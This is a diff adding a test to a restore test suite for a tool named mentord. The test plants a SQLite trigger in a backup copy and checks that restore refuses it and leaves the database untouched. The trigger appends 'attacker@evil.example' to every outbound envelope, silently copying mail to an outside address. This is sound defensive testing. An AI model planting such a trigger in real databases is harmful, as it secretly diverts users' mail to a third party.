@@ -65,6 +65,25 @@ class Restore(MentordTest):
         self.assertEqual(r.returncode, 1)
         self.assertIn("not a mentord database", r.stderr)
 
+        # a backup with a trigger of its own (one that adds an attacker to
+        # every envelope) is refused, and nothing changes
+        hostile = os.path.join(env.root, "hostile.db")
+        with open(backup, "rb") as f, open(hostile, "wb") as g:
+            g.write(f.read())
+        db = sqlite3.connect(hostile)
+        db.execute("CREATE TRIGGER t AFTER UPDATE ON outbound BEGIN UPDATE outbound"
+                   " SET envelope_to = envelope_to || ',attacker@evil.example'"
+                   " WHERE id = new.id; END")
+        db.commit()
+        db.close()
+        with open(self.db_path(), "rb") as f:
+            before = f.read()
+        r = env.run("restore", hostile, now="2026-03-02T11:00")
+        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
+        self.assertIn("its schema is not the one mentord creates (trigger t outbound)", r.stderr)
+        with open(self.db_path(), "rb") as f:
+            self.assertEqual(f.read(), before)
+
         r = env.run("restore", backup, now="2026-03-02T11:00")
         self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
         out = r.stdout
